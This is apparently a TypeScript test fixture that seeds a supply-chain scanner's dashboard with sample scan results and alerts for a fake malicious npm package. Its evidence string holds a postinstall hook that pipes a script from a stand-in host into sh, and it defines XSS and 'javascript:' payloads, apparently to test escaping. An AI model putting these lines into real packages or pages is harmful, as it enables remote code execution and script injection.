import type { Finding } from '../../src/core/types.js';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startDashboard } from '../../src/server/index.js';
import type { RunningDashboard } from '../../src/server/index.js';
import { SqliteStore } from '../../src/store/index.js';
import type { ResultStore } from '../../src/store/index.js';

export const XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>';

const evil: Finding = {
  ruleId: 'npm/install-script-download', severity: 'critical', kind: 'threat', category: 'download-execute', confidence: 'high',
  message: 'Install hook `postinstall` downloads code and runs it', location: { path: 'package/package.json', line: 5, artifact: 'evil-pkg-0.0.9.tgz' },
  evidence: `"postinstall": "curl -s http://payload.example.invalid/x.sh | sh" ${XSS}`, trigger: 'install',
};
const net: Finding = {
  ruleId: 'npm/network', severity: 'low', kind: 'capability', category: 'network', confidence: 'medium',
  message: 'Makes HTTP requests', location: { path: 'package/index.js', line: 2 }, evidence: 'https.get(url)', trigger: 'call',
};

/** A store with one project, two alerts and three releases (one malicious with a hostile evidence string). */
export async function seed(store: ResultStore): Promise<void> {
  const t = (m: number): string => new Date(Date.UTC(2026, 10, 26, 5, m)).toISOString();
  await store.putResult({
    ecosystem: 'npm', name: 'evil-pkg', version: '0.0.8', verdict: 'clean', score: 2, reason: 'Only low-risk capabilities were found.',
    artifacts: [{ filename: 'evil-pkg-0.0.8.tgz', sha256: 'a'.repeat(64), size: 1000 }], findings: [net], errors: [], source: 'feed:npm-changes', durationMs: 12, scannedAt: t(1),
  });
  await store.putResult({
    ecosystem: 'npm', name: 'evil-pkg', version: '0.0.9', verdict: 'malicious', score: 102, reason: 'Install hook `postinstall` downloads code and runs it.',
    artifacts: [{ filename: 'evil-pkg-0.0.9.tgz', sha256: 'b'.repeat(64), size: 1200, source: 'javascript:alert(1)' }], findings: [evil, net], errors: [],
    newInRelease: [evil], previousVersion: '0.0.8', source: 'feed:npm-changes', durationMs: 15, scannedAt: t(2),
  });
  await store.putResult({
    ecosystem: 'pypi', name: 'requests-helper', version: '0.4.2', verdict: 'clean', score: 0, reason: 'No suspicious behaviour was found.',
    artifacts: [{ filename: 'requests_helper-0.4.2.tar.gz', sha256: 'c'.repeat(64), size: 3000, source: 'http://127.0.0.1/files/requests_helper-0.4.2.tar.gz' }],
    findings: [], errors: [], source: 'feed:pypi-rss', durationMs: 20, scannedAt: t(3),
  });
  await store.putProject({
    id: 'abc123def456', path: '/srv/app', name: 'shop-frontend', addedAt: t(0), lastRunAt: t(4), status: 'alert',
    summary: '2 direct dependencies; 0 advisories; 1 risky releases', dependencies: [
      { ecosystem: 'npm', name: 'evil-pkg', version: '0.0.8' }, { ecosystem: 'pypi', name: 'requests-helper', version: '0.4.2' },
    ],
  });
  await store.addAlert({
    key: 'release:npm:evil-pkg@0.0.9:malicious', kind: 'malicious-release', severity: 'critical',
    title: `npm evil-pkg@0.0.9 is malicious (score 102) ${XSS}`, message: 'Install hook `postinstall` downloads code and runs it.',
    ecosystem: 'npm', name: 'evil-pkg', version: '0.0.9', evidencePath: '/release/npm/evil-pkg/0.0.9', createdAt: t(2),
  });
  await store.addAlert({
    key: 'watch:abc123def456:npm:evil-pkg@0.0.9:malicious', kind: 'malicious-release', severity: 'critical',
    title: 'shop-frontend: new release evil-pkg@0.0.9 (you use 0.0.8) is malicious', message: 'Do not upgrade until this is reviewed.',
    ecosystem: 'npm', name: 'evil-pkg', version: '0.0.9', project: 'abc123def456', evidencePath: '/release/npm/evil-pkg/0.0.9', createdAt: t(4),
  });
}

/** A seeded SQLite store in a temp folder with a dashboard on a free loopback port; `close()` removes all. */
export async function seededDashboard(prefix: string, options: { token?: string } = {}): Promise<{ dir: string; store: SqliteStore; dash: RunningDashboard; close(): Promise<void> }> {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  const store = new SqliteStore(join(dir, 's.db'));
  await store.init();
  await seed(store);
  const dash = await startDashboard({ store, port: 0, ...options });
  return {
    dir,
    store,
    dash,
    async close() {
      await dash.close();
      await store.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}
